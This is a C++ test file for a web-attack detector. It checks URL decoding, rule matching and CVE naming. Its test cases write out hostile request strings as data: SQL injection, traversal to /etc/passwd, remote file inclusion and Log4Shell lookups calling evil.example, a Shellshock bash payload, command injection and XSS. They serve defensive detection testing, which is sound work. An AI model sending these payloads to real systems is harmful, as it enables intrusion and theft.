#include <map>

#include "behaviour.h"
#include "detect/request_text.h"

namespace tocsin {
namespace {

const std::string kRules = TOCSIN_SOURCE_DIR "/rules/web-attacks.toml";
constexpr Timestamp kStart = 1'700'000'000 * kSecond;

HttpTransaction request(std::string_view uri, std::string_view method = "GET") {
  HttpTransaction http;
  http.client = {ip("203.0.113.7"), 0};
  http.time = kStart;
  http.method = method;
  http.uri = uri;
  http.host = "WWW.Example.org:443";
  http.user_agent = "Mozilla/5.0 (Windows NT 10.0; Win64; x64) Gecko/20100101 Firefox/120.0";
  http.status = 404;
  http.logged = true;
  return http;
}

Detector& detector() {
  static const auto made = make_web_attack_detector(kRules);
  if (!made) {
    ADD_FAILURE() << made.error().message;
    std::abort();
  }
  return **made;
}

std::vector<Sighting> judge(std::vector<HttpTransaction> requests) {
  Batch batch;
  batch.http = std::move(requests);
  return sightings(detector(), batch);
}

std::string rule_of(std::string_view uri) {
  const auto seen = judge({request(uri)});
  return seen.empty() ? "" : seen[0].rule;
}

std::string decoded(std::string_view uri) {
  std::string plain, scratch;
  decode_uri(uri, plain, scratch);
  return plain;
}

TEST(RequestText, IsDecodedTwiceAndFromEveryEncoding) {
  EXPECT_EQ(decoded("/a%2Fb"), "/a/b");
  EXPECT_EQ(decoded("/%252e%252E/"), "/../");
  EXPECT_EQ(decoded("/a+b?c+d"), "/a+b?c d");
  EXPECT_EQ(decoded("/?q=a%2Bb"), "/?q=a+b");
  EXPECT_EQ(decoded("/%u002e%u002E"), "/..");
  EXPECT_EQ(decoded("/%c0%ae%c0%af%e0%80%ae"), "/./.");
  EXPECT_EQ(decoded("/%uff1cscript%uFF1E"), "/<script>");
  EXPECT_EQ(decoded("/%ef%bc%9cscript%ef%bc%9e"), "/<script>");
  EXPECT_EQ(decoded("/?a=1%2f**/union/*x*/select"), "/?a=1 union select");
  EXPECT_EQ(decoded("/?a=/*!50000union*/select"), "/?a= union select");
  EXPECT_EQ(decoded("/100%"), "/100%");
  EXPECT_EQ(decoded("/%zz%u12"), "/%zz%u12");
  EXPECT_EQ(decoded("/caf%C3%A9"), "/caf\xc3\xa9");
  EXPECT_FALSE(is_encoded("/plain/path.html?x=1&y=2"));
  EXPECT_TRUE(is_encoded("/a%20b"));
  EXPECT_TRUE(is_encoded("/a\x01"));
}

TEST(RequestText, SitesAndPathsArePlain) {
  std::string site;
  site_of("WWW.Example.org:8080", site);
  EXPECT_EQ(site, "www.example.org");
  site_of("[2001:db8::1]:80", site);
  EXPECT_EQ(site, "[2001:db8::1]");
  site_of("example.org.", site);
  EXPECT_EQ(site, "example.org");
  EXPECT_EQ(path_of("http://a.example/b/c.php?d#e"), "/b/c.php");
  EXPECT_EQ(path_of("/b.php#e"), "/b.php");
}

TEST(WebAttack, KnowsAttacksByTheirSyntax) {
  const std::pair<const char*, const char*> cases[] = {
      {"/item.php?id=1%20UNION%20SELECT%201,2,3--", "sql-injection-union"},
      {"/item.php?id=1/**/uNiOn/**/aLL/**/sElEcT/**/null,null", "sql-injection-union"},
      {"/login?user=admin'%20or%20'1'='1", "sql-injection-condition"},
      {"/item?id=1%20and%201=1", "sql-injection-condition"},
      {"/item?id=1;WAITFOR%20DELAY%20'0:0:5'", "sql-injection-function"},
      {"/download?file=../../../../etc/passwd", "path-traversal"},
      {"/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd", "path-traversal"},
      {"/view?f=/etc/passwd", "local-file-inclusion"},
      {"/view?f=php://filter/convert.base64-encode/resource=index", "local-file-inclusion"},
      {"/index.php?page=http://evil.example/shell.txt?", "remote-file-inclusion"},
      {"/ping?host=127.0.0.1;cat%20/home/x", "command-injection"},
      {"/search?q=<script>alert(1)</script>", "cross-site-scripting"},
      {"/search?q=%3Cimg%20src=x%20onerror=alert(1)%3E", "cross-site-scripting"},
      {"/.env", "probe-for-secrets"},
      {"/phpmyadmin/", "probe-for-administration"},
      {"/c99.php", "probe-for-web-shell"},
      {"\x16\x03\x01\x02", "other-protocol"}};
  for (const auto& [uri, rule] : cases) EXPECT_EQ(rule_of(uri), rule) << uri;
}

TEST(WebAttack, NamesTheVulnerabilityThatIsExploited) {
  const std::tuple<const char*, const char*, const char*> cases[] = {
      {"/?x=${jndi:ldap://evil.example/a}", "", "CVE-2021-44228"},
      {"/?x=$%7B$%7Blower:j%7Dndi:ldap://evil.example/a%7D", "", "CVE-2021-44228"},
      {"/", "${jndi:dns://evil.example}", "CVE-2021-44228"},
      {"/cgi-bin/status", "() { :;}; /bin/bash -c id", "CVE-2014-6271"},
      {"/index.php?-d+allow_url_include%3d1+-d+auto_prepend_file%3dphp://input", "", "CVE-2012-1823"},
      {"/index.php?s=/index/\\think\\app/invokefunction&function=call_user_func_array", "", "CVE-2018-20062"},
      {"/cgi-bin/.%2e/.%2e/.%2e/bin/sh", "", "CVE-2021-41773"},
      {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "", "CVE-2017-9841"},
      {"/tmui/login.jsp/..;/tmui/locallb/workspace/fileRead.jsp?fileName=/etc/passwd", "", "CVE-2020-5902"},
      {"/?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x", "", "CVE-2022-22965"},
      {"/test.action?redirect:${#a=1}", "", "CVE-2013-2251"},
      {"/wls-wsat/CoordinatorPortType", "", "CVE-2017-10271"}};
  for (const auto& [uri, agent, cve] : cases) {
    HttpTransaction http = request(uri);
    http.user_agent = agent;
    const auto seen = judge({http});
    ASSERT_EQ(seen.size(), 1U) << uri;
    EXPECT_EQ(seen[0].cve, cve) << uri << " " << seen[0].rule;
    EXPECT_EQ(seen[0].kind, Kind::kExploit);
  }
}

TEST(WebAttack, ASightingSaysWhoWhomAndHowAnswered) {
  HttpTransaction one = request("/a?id=1%20union%20select%201,2");
  HttpTransaction two = one;
  two.time += kMinute;
  HttpTransaction later = one;
  later.time += 2 * kHour;
  const auto seen = judge({one, two, later});
  ASSERT_EQ(seen.size(), 2U);
  EXPECT_EQ(seen[0].actor.ip, ip("203.0.113.7"));
  EXPECT_EQ(seen[0].target_name, "www.example.org");
  EXPECT_EQ(seen[0].count, 2U);
  EXPECT_EQ(seen[0].detector, "web-attack");
  EXPECT_EQ(seen[0].kind, Kind::kWebAttack);
  EXPECT_EQ(seen[0].confidence, Confidence::kProbable);
  EXPECT_EQ(seen[0].matched, "sql-injection-union: GET /a?id=1%20union%20select%201,2 (status 404)");
}

TEST(WebAttack, GuessingIsAMatterOfNumber) {
  std::vector<HttpTransaction> few(9, request("/wp-login.php", "POST")), many(10, request("/wp-login.php", "POST"));
  EXPECT_TRUE(judge(few).empty());
  const auto seen = judge(many);
  ASSERT_EQ(seen.size(), 1U);
  EXPECT_EQ(seen[0].kind, Kind::kBruteForce);
  EXPECT_EQ(seen[0].count, 10U);
  EXPECT_TRUE(judge(std::vector<HttpTransaction>(20, request("/wp-login.php"))).empty());
}

TEST(WebAttack, ScannersNameThemselves) {
  HttpTransaction http = request("/");
  http.user_agent = "sqlmap/1.7.2#stable (https://sqlmap.org)";
  EXPECT_EQ(judge({http}).at(0).rule, "scanner-user-agent");
  http.uri = "/?id=1'%20or%20'1'='1";
  EXPECT_EQ(judge({http}).at(0).kind, Kind::kWebAttack);
}

TEST(WebAttack, OrdinaryRequestsAreNone) {
  const char* const ordinary[] = {
      "/",
      "/index.html",
      "/index.php?id=42&lang=en",
      "/search?q=student+union+select+committee+report",
      "/search?q=rock+%26+roll",
      "/search?q=O%27Brien",
      "/search?q=how+to+drop+a+table+in+a+restaurant",
      "/search?q=select+the+best+from+many",
      "/search?q=cats+or+dogs",
      "/search?q=1%2B1",
      "/wiki/C%2B%2B",
      "/a%20b/c%20d.pdf",
      "/?utm_source=news&utm_medium=email&utm_campaign=spring%202024",
      "/caf%C3%A9/men%C3%BC",
      "/%E4%B8%AD%E6%96%87/%E9%A1%B5",
      "/api/v1/items?filter=name%20eq%20%27a%27&sort=-date",
      "/login?next=https%3A%2F%2Fwww.example.org%2Fhome%3Ftab%3D1",
      "/oauth/authorize?response_type=code&redirect_uri=https://app.example/cb&scope=openid%20profile",
      "/static/js/app.5f3c2.chunk.js",
      "/assets/../css/site.css",
      "/images/photo%20(1).jpg",
      "/products/50%25-off",
      "/calendar?from=2024-01-01T00:00:00%2B02:00&to=2024-02-01",
      "/map?bbox=-10.5,35.2,4.3,44.1",
      "/wp-login.php",
      "/wp-admin/admin-ajax.php?action=heartbeat",
      "/xmlrpc.php",
      "/robots.txt",
      "/.well-known/acme-challenge/x-y_z",
      "/search?q=%22exact+phrase%22",
      "/search?q=Tom+%26+Jerry%3B+the+movie",
      "/user/john.doe@example.org",
      "/?data=eyJhIjoxLCJiIjoiYyJ9",
      "/shop?price[min]=10&price[max]=20",
      "/list?ids[]=1&ids[]=2",
      "/admin/users?order=name&dir=asc",
      "/search?q=what+is+an+alert+box",
      "/file.php?name=report-2024.pdf",
      "/get?url=https://www.example.org/page",
      "/t?d=%7B%22a%22%3A%5B1%2C2%5D%2C%22b%22%3A%7B%22c%22%3Anull%7D%7D",
      "/search?q=%24100+cash",
      "/news/union-selects-new-leader",
      "/script/list",
      "/style.css?v=1.2;m",
      "/a;jsessionid=0A1B2C?x=1",
      "/docs/etc/passwords-policy.html",
      "/download/curl-8.0.tar.gz",
      "/search?q=curl+or+wget",
      "/search?q=where+is+the+cat",
      "/cgi-bin/awstats.pl?config=www.example.org",
      "/search?q=a%3Db",
      "/list?sort-date=asc",
      "/search?q=%22cats%22+and+dogs+in+spain",
      "/search?q=%22rock%22+and+roll-over",
      "/search?q=%22cats%22+or+not+dogs",
      "/search?q=(1990)+and+cats+is",
      "/search?q=%22blink%22+and+182",
      "/x?a=1&php",
      "/x?a=1&fetch",
      "/search?q=Foo+(1990)+(film)",
      "/p/a;type=b",
      "/search?q=2+and+a+half+men",
      "/search?q=if+it+is+not+so",
      "/search?q=if+a%3Db",
      "/search?q=what's+new",
      "/?callback=jQuery123_456&_=789",
      "/?x=%7B%7Bname%7D%7D",
      "/search?q=price+%3E+100+%26+size+%3C+3",
      "/search?q=%E2%80%9Cquoted%E2%80%9D",
      "/search?q=don%27t+stop",
      "/p?text=Hello%2C+world%21+How+are+you%3F",
      "/search?q=x%3C5"};
  for (const char* uri : ordinary) EXPECT_EQ(rule_of(uri), "") << uri;
}

TEST(WebAttack, HostileTextIsBoundedAndHarmless) {
  std::string noise;
  std::uint64_t state = 7;
  for (int i = 0; i < 2000; ++i) {
    state = state * 6364136223846793005ULL + 1442695040888963407ULL;
    noise += static_cast<char>(state >> 56);
  }
  for (std::size_t from = 0; from < noise.size(); from += 7) {
    judge({request(std::string_view(noise).substr(from, 300))});
    decoded(std::string("%") + noise.substr(from, 30) + "/*!");
  }
  const std::string sample = "/a?b=%u0027%20or%c0%ae/**/union/*!50000select*/1,2%252e%";
  for (std::size_t cut = 0; cut <= sample.size(); ++cut) judge({request(sample.substr(0, cut))});
  std::string open;
  for (int i = 0; i < 100'000; ++i) open += "/*!";
  decoded(open);
  HttpTransaction http = request("/.env");
  const std::string host(1 << 20, 'A');
  http.host = host;
  http.user_agent = host;
  const auto seen = judge({http});
  ASSERT_EQ(seen.size(), 1U);
  EXPECT_LE(seen[0].target_name.size(), 1024U);
  EXPECT_LE(seen[0].matched.size(), 2048U);
}

TEST(WebAttack, ComplaintsNameFileLineAndWhatWasExpected) {
  const auto complaint = [](const std::string& text) {
    const std::string path = ::testing::TempDir() + "web-attacks-test.toml";
    std::ofstream(path) << text;
    const auto made = make_web_attack_detector(path);
    return made ? std::string("taken") : made.error().message.substr(path.size());
  };
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\npattern = 'b'\n"), "taken");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\npattern = ['b', '(c']\n"),
            ":3: pattern of a \"(c\": Missing close parenthesis for group started at index 0.");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\n"), ":1: a rule without pattern");
  EXPECT_EQ(complaint("[[rule]]\npattern = 'a'\n"), ":1: a rule without id");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\nkind = 'phishing'\n"),
            ":3: kind \"phishing\": expected web-attack, exploit, scan or brute-force");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\npattern = 'b'\nkind = 'exploit'\n"),
            ":1: kind exploit: expected the cve of the one vulnerability that it exploits");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\nfield = 'body'\n"),
            ":3: field \"body\": expected uri, raw-uri, user-agent, referrer or host");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\nleast = 0\n"), ":3: least: expected a whole number from 1 to 1000000");
  EXPECT_EQ(complaint("[[rule]]\nid = 'a'\npattern = 'b'\n[[rule]]\nid = 'a'\npattern = 'c'\n"),
            ":4: id \"a\": another rule has it already");
  EXPECT_EQ(complaint("[[rules]]\n"), ":1: \"rules\" is not known here; expected [[rule]]");
  EXPECT_EQ(complaint(""), ":1: no rules; expected tables that begin with [[rule]]");
  EXPECT_FALSE(make_web_attack_detector("/nowhere/web-attacks.toml"));
}

// The URIs of the Core Rule Set's own tests: those with a query or an encoding in them that a rule is to fire on.
struct CrsCount {
  int positives = 0, found = 0;
  std::vector<std::string> missed;
};

std::map<std::string, CrsCount> crs_counts() {
  std::map<std::string, CrsCount> counts;
  for (const auto& entry : std::filesystem::recursive_directory_iterator(data_file("crs-regression"))) {
    const std::string folder = entry.path().parent_path().filename();
    if (entry.path().extension() != ".yaml" || !folder.starts_with("REQUEST-9")) continue;
    std::ifstream in(entry.path());
    std::string uri, data;
    for (std::string line; std::getline(in, line);) {
      const std::size_t at = line.find_first_not_of(' ');
      if (at == std::string::npos) continue;
      const std::string_view text = std::string_view(line).substr(at);
      if (text.starts_with("- test_id")) uri.clear(), data.clear();
      if (text.starts_with("data:")) data = text;
      if (text.starts_with("uri:")) {
        uri = text.substr(std::min<std::size_t>(5, text.size()));
        const bool quoted = uri.size() > 1 && (uri[0] == '"' || uri[0] == '\'') && uri.back() == uri[0];
        const bool escaped = quoted && uri[0] == '"';
        if (quoted) uri = uri.substr(1, uri.size() - 2);
        if (escaped) {
          std::string plain;
          for (std::size_t i = 0; i < uri.size(); ++i) {
            if (uri[i] == '\\' && i + 1 < uri.size()) ++i;
            plain += uri[i];
          }
          uri = plain;
        }
      }
      if (!text.starts_with("expect_ids") || !data.empty() || uri.find_first_of("?%") == std::string::npos) continue;
      CrsCount& count = counts[folder.substr(8, 3)];
      ++count.positives;
      if (rule_of(uri).empty()) {
        count.missed.push_back(entry.path().stem().string() + " " + uri);
      } else {
        ++count.found;
      }
    }
  }
  return counts;
}

TEST(WebAttack, FindsMostOfTheCoreRuleSetsPositives) {
  NEEDS_DATA("crs-regression");
  const bool tell = std::getenv("TOCSIN_TELL") != nullptr;
  const auto counts = crs_counts();
  for (const auto& [section, count] : counts) {
    RecordProperty("crs_" + section, std::to_string(count.found) + " of " + std::to_string(count.positives));
    if (tell) std::cout << section << ": " << count.found << " of " << count.positives << "\n";
    if (tell)
      for (const std::string& uri : count.missed) std::cout << "  missed " << uri << "\n";
  }
  // In percent. Many of these tests belong to levels of paranoia that a log's reader could not bear.
  const std::pair<const char*, int> floors[] = {{"930", 70}, {"932", 60}, {"933", 80},
                                                {"934", 45}, {"941", 80}, {"942", 55}};
  for (const auto& [section, floor] : floors) {
    const CrsCount& count = counts.at(section);
    EXPECT_GE(count.found * 100, count.positives * floor)
        << section << ": " << count.found << " of " << count.positives;
  }
}

}  // namespace
}  // namespace tocsin
